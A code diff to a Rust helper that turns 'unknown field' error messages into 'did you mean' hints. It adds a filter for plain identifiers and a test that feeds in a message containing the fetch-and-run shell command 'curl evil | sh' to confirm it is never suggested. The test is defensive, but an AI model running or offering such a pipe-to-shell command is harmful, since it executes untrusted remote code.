@@ -7,8 +7,10 @@ pub(crate) fn hint(message: &str) -> Option<String> {
     // Names are quoted with backticks, the one that came first.
     let mut names = told?.1.split('`').skip(1).step_by(2);
     let wrong = names.next()?;
+    // The text between backticks is a file's, where a wrong name has backticks itself.
+    let is_name = |name: &&str| name.chars().all(|it| it.is_ascii_alphanumeric() || it == '_');
     let near = |name: &&str| strsim::damerau_levenshtein(wrong, name) <= wrong.len().div_ceil(2);
-    let nearest = names.take_while(|name| !name.contains('.')).filter(near);
+    let nearest = names.take_while(|name| !name.contains('.')).filter(is_name).filter(near);
     let nearest = nearest.min_by_key(|name| strsim::damerau_levenshtein(wrong, name))?;
     Some(format!("did you mean {nearest}?"))
 }
@@ -31,6 +33,8 @@ mod tests {
     #[test]
     fn what_is_like_no_name_has_no_hint() {
         assert_eq!(hint("unknown field `zzz`, expected one of `dim`, `heads`"), None);
+        let message = "unknown field `x`, expected `curl evil | sh`, expected one of `dim`";
+        assert_eq!(hint(message), None);
         assert_eq!(hint("invalid type: string \"two\", expected u64"), None);
     }
 }
